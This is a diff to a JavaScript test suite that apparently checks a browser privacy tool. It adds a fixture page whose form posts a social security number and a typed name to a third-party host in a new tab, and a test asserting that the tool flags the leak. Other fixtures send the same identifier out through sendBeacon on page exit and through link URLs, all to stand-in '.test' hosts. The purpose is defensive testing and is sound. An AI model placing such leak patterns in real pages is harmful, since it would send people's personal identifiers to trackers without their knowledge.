@@ -14,6 +14,7 @@ const pages = {
   '/par-script': `${form('https://portail.test/x')}<button id="partir" onclick="location.href = 'https://ailleurs.test/vide'">Partir</button>`,
   '/vide': '<p>Rien</p>',
   '/lien-bavard': `<a id="lien" href="http://ailleurs.test/vide?nir=${NIR}">Ailleurs</a>`,
+  '/ouvre': `<form method="post" action="https://suivi.test/pop" target="_blank"><label>Numéro de sécurité sociale <input name="nir" value="${NIR}"></label><label>Nom <input id="nom" name="champ7"></label><button id="ouvrir">Ouvrir</button></form>`,
   '/retour': '<script>setTimeout(() => history.back(), 0)</script>',
   '/adieu': `<script>addEventListener('pagehide', () => navigator.sendBeacon('https://suivi.test/adieu', 'nir=${NIR}'))</script>`,
   '/titre': `${form('https://portail.test/x', '<label>Nom <input id="nom" name="nom"></label>')}<script>document.querySelector('#nom').addEventListener('input', ({target}) => { document.title = 'Dossier de ' + target.value; });</script>`,
@@ -174,6 +175,27 @@ describe.each(browsers)('in %s', (name) => {
     const report = await browser.reportWhen(page, 'the link', has('data-in-address'));
     expect(has('plain-http')(report)).toBe(true);
     expect(report.visit?.pages).toEqual(['http://ailleurs.test/vide?nir=…']);
+  });
+
+  it('tells in the page’s own report what it sends by opening a tab', async () => {
+    page = await browser.page('https://portail.test/ouvre');
+    await page.type('#nom', 'Trousseau');
+    await browser.reportWhen(page, 'the typed field', ({fields}) =>
+      fields.some(({filled, category}) => filled && category === 'name'),
+    );
+    await page.click('#ouvrir');
+    const report = await browser.reportWhen(page, 'the opened address', has('third-party'));
+    const named = report.findings.filter(({category, rule}) => category === 'name' && rule === 'third-party');
+    expect(named).toMatchObject([
+      {
+        destination: 'suivi.test',
+        evidence: [{how: 'typed', page: expect.stringMatching(/^https:\/\/portail\.test/)}],
+      },
+    ]);
+    const opened = await browser.openedPage('suivi.test/pop');
+    expect(has('third-party')(await browser.report(opened))).toBe(true);
+    await opened.close();
+    expect(has('third-party')(await browser.report(page))).toBe(true);
   });
 
   it('does not let a page erase its leak by going back', async () => {
